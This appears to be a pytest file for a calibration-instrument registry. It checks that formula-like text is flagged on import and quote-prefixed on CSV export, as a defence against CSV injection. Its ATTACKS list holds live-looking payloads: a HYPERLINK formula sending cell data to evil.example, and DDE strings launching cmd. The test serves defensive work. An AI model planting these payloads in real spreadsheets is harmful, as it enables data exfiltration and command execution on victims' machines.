"""Spreadsheet safety (issue 14.6): text that a spreadsheet would run as a formula is flagged on import and kept as
text, and every CSV export writes it with a leading single quote (OWASP CSV injection rule); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import os
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import select
from sqlalchemy.engine import Engine
from typer.testing import CliRunner

from api.cli import app
from api.cli.tables import Format, emit
from registry.db import read_session, session_scope
from registry.importer import import_instruments
from registry.models import MeasuringInstrument
from registry.vocabulary import looks_like_formula, spreadsheet_safe
from tests.registry.test_importer import HEADER, TODAY, good, write_csv

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", [*ATTACKS, "=1+1", "\t=1", "\r=1", "-x", "+"])
def test_formula_like_text_is_prefixed_with_a_quote(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["B912345678", "Cân phân tích", "'=already quoted", " =leading space", ""])
def test_other_text_is_unchanged(text: str) -> None:
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize(
    ("text", "flagged"),
    [(a, True) for a in ATTACKS]
    + [("-5", False), ("+84", False), ("-1,5", False), ("-", False), ("--", False), ("— —", False)]
    + [("0-220 g", False), ("@home", True), ("=", True)],
)
def test_import_flags_what_would_run_as_a_formula(text: str, flagged: bool) -> None:
    assert looks_like_formula(text) is flagged


def test_csv_export_neutralises_text_cells_and_keeps_numbers(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [
        {"name": ATTACKS[0], "n": -5, "x": -2.5, "d": date(2026, 1, 2), "t": "-5", "ok": "Cân", "tab": "\t=1"},
    ]
    columns = [(k, k) for k in ("name", "n", "x", "d", "t", "ok", "tab")]
    emit(rows, columns, Format.CSV)
    out = capsys.readouterr().out
    assert out.startswith("\ufeff")  # UTF-8 with a byte-order mark, so that Excel reads it as UTF-8
    (header, row) = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    assert header == ["name", "n", "x", "d", "t", "ok", "tab"]
    # text starting with = - \t gets the quote; the numbers -5 and -2.5 and the date are written as they are
    assert row == ["'" + ATTACKS[0], "-5", "-2.5", "2026-01-02", "'-5", "Cân", "'\t=1"]


def test_an_imported_formula_is_kept_as_text_flagged_and_exported_quoted(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_csv(
        tmp_path / "i.csv",
        [
            HEADER,
            good("F-1", customer=ATTACKS[0], location="@SUM(1+1)"),
            good("F-2", model="-", range="-50 ... 150 °C", resolution="0,1 °C"),  # a dash for "none", a range below 0
            good("F-3", range="=1+2"),
        ],
    )
    with session_scope(engine, "t") as s:
        report = import_instruments(s, path, today=TODAY)
    assert report.imported == 3 and not report.rejected
    flagged = {(w.row, w.column) for w in report.warnings if "run it as a formula" in w.reason}
    assert flagged == {(2, "customer"), (2, "location"), (4, "range")}
    with read_session(engine) as s:
        by_serial = {i.serial_number: i for i in s.scalars(select(MeasuringInstrument))}
        assert by_serial["F-1"].owner.name == ATTACKS[0]  # stored as written: text, not evaluated
        assert by_serial["F-1"].location == "@SUM(1+1)"
        assert (by_serial["F-2"].range_min, by_serial["F-2"].range_max, by_serial["F-2"].model) == (-50.0, 150.0, "-")
        assert by_serial["F-3"].range_text == "=1+2" and by_serial["F-3"].range_max is None

    for name in list(os.environ):
        if name.startswith("CALTRACE_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("CALTRACE_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    result = CliRunner().invoke(app, ["report", "due", "--days", "400", "--today", "2026-04-01", "-f", "csv"])
    assert result.exit_code == 0, result.output
    table = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff"))))
    f1 = next(r for r in table if r["serial_number"] == "F-1")
    assert f1["customer"] == "'" + ATTACKS[0] and f1["location"] == "'@SUM(1+1)"
    assert f1["days_left"].lstrip("-").isdigit()  # a number, not quoted
    f2 = next(r for r in table if r["serial_number"] == "F-2")
    assert f2["model"] == "'-"  # a text cell starting with '-' is quoted on export too (OWASP)


def test_an_xlsx_text_cell_that_looks_like_a_formula_is_flagged(engine: Engine, tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    values = good("X-1", kind="Cân kỹ thuật")
    sheet.append(values)
    sheet.cell(row=2, column=HEADER.index("location") + 1).value = "+cmd"
    sheet.cell(row=2, column=HEADER.index("location") + 1).data_type = "s"  # text, as typed after a quote
    path = tmp_path / "i.xlsx"
    book.save(path)
    with session_scope(engine, "t") as s:
        report = import_instruments(s, path, today=TODAY)
    assert report.imported == 1
    assert [(w.row, w.column) for w in report.warnings if "formula" in w.reason] == [(2, "location")]
